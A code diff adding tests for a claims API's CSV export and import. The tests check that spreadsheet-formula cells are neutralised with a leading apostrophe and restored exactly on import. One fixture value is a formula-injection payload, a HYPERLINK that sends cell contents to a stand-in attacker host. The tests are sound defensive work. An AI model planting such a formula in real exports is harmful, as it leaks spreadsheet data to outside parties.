@@ -1,7 +1,16 @@
+import { Readable } from 'node:stream'
+import { isDeepStrictEqual } from 'node:util'
 import { parse } from 'csv-parse/sync'
+import fc from 'fast-check'
 import t from 'tap'
+import { neutraliseFormula, restoreFormula } from '../src/claims/csv-formulas.js'
+import { csvStream, type ExportRecord } from '../src/claims/export.js'
+import { csvRecords } from '../src/claims/import.js'
 import { loadSeeds } from '../src/seed.js'
 import { claimInput, dump, harness } from './helpers.js'
+
+// Several harnesses and a property test: more than tap's default 30 s on a busy machine.
+t.setTimeout(120_000)
 
 const ndjson = (lines: unknown[]) => lines.map((l) => (typeof l === 'string' ? l : JSON.stringify(l))).join('\n') + '\n'
 
@@ -51,6 +60,7 @@ t.test('import limits and content types', async (t) => {
   const big = await as('editor')('POST', '/v1/claims/import', 'x'.repeat(50 * 1024 * 1024 + 1), { 'content-type': 'application/x-ndjson' })
   t.equal(big.statusCode, 413)
   t.match(big.headers['content-type'], /^application\/problem\+json/)
+  t.equal(big.headers.connection, 'close', 'the client may still be sending: this connection cannot carry another request')
   t.equal((await as('editor')('POST', '/v1/claims/import', 'hello', { 'content-type': 'text/plain' })).statusCode, 415)
   t.equal((await as('editor')('POST', '/v1/claims', 'a,b\n1,2\n', { 'content-type': 'text/csv' })).statusCode, 415, 'CSV only where documented')
   t.same(dump(database), before)
@@ -100,4 +110,82 @@ t.test('seeded claims round-trip through NDJSON and CSV export/import byte for b
       { 'content-type': format === 'csv' ? 'text/csv' : 'application/x-ndjson' })
     t.match(again.data, { created: 0, duplicates: original.length }, `${format}: importing twice only finds duplicates`)
   }
+})
+
+t.test('CSV export neutralises spreadsheet formulas (OWASP) and CSV import restores them exactly', async (t) => {
+  const source = await harness(t)
+  const tricky = {
+    text: '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")',
+    quote: "'=1+1 was already quoted by hand",
+    context: "'hello, a leading apostrophe before plain text",
+    topics: ['-dash-first', 'b'],
+    speaker: { name: '@handle of the speaker', kind: 'person', description: '+44 20 7946 0000' },
+    source: { title: '-5% says the survey', publisher: "''@twice", url: 'https://example.com/poll' }
+  }
+  const created = await source.as('editor')('POST', '/v1/claims', claimInput(tricky))
+  t.equal(created.statusCode, 201)
+  const csv = await source.as('viewer')('GET', '/v1/claims/export?format=csv')
+  const [row] = parse(csv.body, { columns: true }) as Array<Record<string, string>>
+  t.match(row, {
+    text: "'" + tricky.text,
+    quote: "''=1+1 was already quoted by hand",
+    context: tricky.context,
+    topics: "'-dash-first;b",
+    speakerName: "'@handle of the speaker",
+    speakerDescription: "'+44 20 7946 0000",
+    sourceTitle: "'-5% says the survey",
+    sourcePublisher: "'''@twice"
+  }, 'each dangerous cell starts with one more apostrophe; plain text is left alone')
+  t.same(Object.entries(row ?? {}).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell)), [], 'no cell a spreadsheet would run')
+
+  const target = await harness(t)
+  const imported = await target.as('editor')('POST', '/v1/claims/import', csv.body, { 'content-type': 'text/csv' })
+  t.match(imported.data, { created: 1, failed: 0 })
+  const copy = (await target.as('viewer')('GET', `/v1/claims/${imported.data.results[0].id}`)).data
+  t.match(copy, { text: tricky.text, quote: tricky.quote, context: tricky.context, topics: tricky.topics, speaker: { name: tricky.speaker.name } })
+  const speaker = (await target.as('viewer')('GET', `/v1/speakers/${copy.speakerId}`)).data
+  const origin = (await target.as('viewer')('GET', `/v1/sources/${copy.sourceId}`)).data
+  t.match([speaker.description, origin.title, origin.publisher], [tricky.speaker.description, tricky.source.title, tricky.source.publisher])
+})
+
+t.test('property: every text round-trips through CSV export and import, and no exported cell starts a formula', async (t) => {
+  const risky = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', "'=", "''+", "'-", '\'"@', ' =')
+  const cellText = (trimmed: boolean) => fc.tuple(risky, fc.string({ unit: 'grapheme', maxLength: 12 }))
+    .map(([prefix, rest]) => prefix + rest)
+    .filter((s) => !trimmed || (s.trim() === s && s !== ''))
+  // The pure functions take any string (tabs and CRs too, which the API would have trimmed).
+  fc.assert(fc.property(cellText(false), (s) => restoreFormula(neutraliseFormula(s)) === s && !/^[=+\-@\t\r]/.test(neutraliseFormula(s))),
+    { numRuns: 1000 })
+
+  // Through the real CSV writer and reader, with values as the API stores them (trimmed, non-empty).
+  const text = cellText(true)
+  const record = fc.record({ text, quote: text, context: text, name: text, description: text, title: text, publisher: text })
+    .map((v): ExportRecord => ({
+      id: '01920000-0000-7000-8000-000000000000',
+      text: v.text,
+      quote: v.quote,
+      speaker: { name: v.name, kind: 'person', description: v.description },
+      source: { title: v.title, publisher: v.publisher, url: null, kind: 'article', publishedAt: null },
+      claimedAt: '2020-10-21',
+      context: v.context,
+      topics: [],
+      language: 'en',
+      status: 'unverified',
+      reviewCount: 0,
+      lastReviewedAt: null,
+      createdAt: '2020-10-21T09:30:00.000Z',
+      updatedAt: '2020-10-21T09:30:00.000Z',
+      version: 1
+    }))
+  await fc.assert(fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 5 }), async (records) => {
+    const csv = Buffer.concat(await csvStream(Readable.from(records)).toArray())
+    const cells = (parse(csv, { columns: true }) as Array<Record<string, string>>).flatMap((row) => Object.values(row))
+    if (cells.some((cell) => /^[=+\-@\t\r]/.test(cell))) return false
+    const texts = (r: { text: unknown, quote: unknown, context: unknown, speaker: any, source: any }) =>
+      [r.text, r.quote, r.context, r.speaker.name, r.speaker.description, r.source.title, r.source.publisher]
+    const read: unknown[] = []
+    for await (const item of csvRecords(Readable.from([csv]))) read.push(texts(item.value as ExportRecord))
+    return isDeepStrictEqual(read, records.map(texts))
+  }), { numRuns: 100 })
+  t.pass('held for every generated case')
 })
